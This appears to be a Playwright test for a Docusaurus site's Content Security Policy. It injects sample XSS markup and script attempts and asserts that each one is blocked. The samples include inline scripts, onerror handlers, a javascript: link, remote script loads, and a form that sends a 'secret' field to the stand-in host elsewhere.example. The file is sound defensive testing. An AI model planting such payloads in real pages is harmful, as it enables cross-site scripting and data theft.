import { expect, test } from '@playwright/test';
import { twoStaticPages } from '../../support/builtPages';
import { collectViolations } from '../../support/configured/site';

/** A site that no page may contact. */
const ELSEWHERE = 'https://elsewhere.example';

/** Markup that an attacker might get into a page. What runs sets `window.ran`. */
const MARKUP = `
<base href="${ELSEWHERE}/">
<script>window.ran = ['inline script']</script>
<script src="${ELSEWHERE}/script.js"></script>
<style>#payload { position: fixed }</style>
<p id="payload" style="color: rgb(1, 2, 3)">payload</p>
<img src="/missing.png" onerror="window.ran = ['inline handler']" alt="">
<img src="${ELSEWHERE}/picture.png" alt="">
<iframe src="${ELSEWHERE}/frame"></iframe>
<object data="${ELSEWHERE}/object"></object>
<a id="script-link" href="javascript:window.ran = ['javascript: link']">link</a>
<form id="form" action="${ELSEWHERE}/form"><input name="secret" value="1"></form>`;

/**
 * What an attacker's text inside one of the site's scripts could try. It is served as a file, because scripts that a test runs by
 * `page.evaluate` are exempt from the policy.
 */
function tryEverything(elsewhere: string): void {
  const attempts: (() => unknown)[] = [
    // biome-ignore lint/security/noGlobalEval: this is what must be blocked
    () => eval('1'),
    () => document.body.insertAdjacentHTML('beforeend', '<p>more</p>'),
    () => document.head.append(Object.assign(document.createElement('script'), { src: `${elsewhere}/added.js` })),
    () => document.body.setAttribute('onclick', 'window.ran = ["attribute"]'),
    () => window.trustedTypes?.createPolicy('elsewhere', { createScriptURL: (address) => address }),
  ];
  const results = attempts.map((attempt) => {
    try {
      attempt();
      return 'allowed';
    } catch (error) {
      return (error as Error).name;
    }
  });
  fetch(`${elsewhere}/fetch`).catch(() => Object.assign(window, { results }));
}

test('no payload in a page runs, changes its styles or reaches another site', async ({ page, context }) => {
  const [route] = twoStaticPages();
  const violations = await collectViolations(page);
  const reached: string[] = [];
  await context.route(`${ELSEWHERE}/**`, async (request) => {
    reached.push(request.request().url());
    await request.fulfill({ body: 'window.ran = ["elsewhere"]', contentType: 'text/javascript' });
  });
  await page.route('**/assets/js/payload.js', (request) =>
    request.fulfill({
      contentType: 'text/javascript',
      body: `(${tryEverything.toString()})(${JSON.stringify(ELSEWHERE)})`,
    }),
  );
  await page.route(`**${route}`, async (request) => {
    const response = await request.fetch();
    const body = (await response.text())
      .replace('<div id=__docusaurus>', `${MARKUP}<div id=__docusaurus>`)
      .replace('</body>', '<script src="/assets/js/payload.js"></script></body>');
    await request.fulfill({ response, body });
  });
  await page.goto(route);
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, 'results')))
    .toEqual(['EvalError', 'TypeError', 'TypeError', 'TypeError', 'TypeError']);
  await expect(page.locator('#payload')).not.toHaveCSS('color', 'rgb(1, 2, 3)');
  await expect(page.locator('#payload')).toHaveCSS('position', 'static');
  await page.locator('#script-link').dispatchEvent('click');
  await page.locator('#form').evaluate((form: HTMLFormElement) => form.submit());
  await expect
    .poll(() => [...new Set(violations.map((violation) => violation.split(':')[0]))].sort())
    .toEqual([
      ...['base-uri', 'connect-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'require-trusted-types-for'],
      ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem', 'trusted-types'],
    ]);
  const state = await page.evaluate(() => [
    Reflect.get(window, 'ran'),
    document.baseURI === location.href,
    location.pathname,
  ]);
  expect(state).toEqual([undefined, true, route]);
  expect(reached).toEqual([]);
});
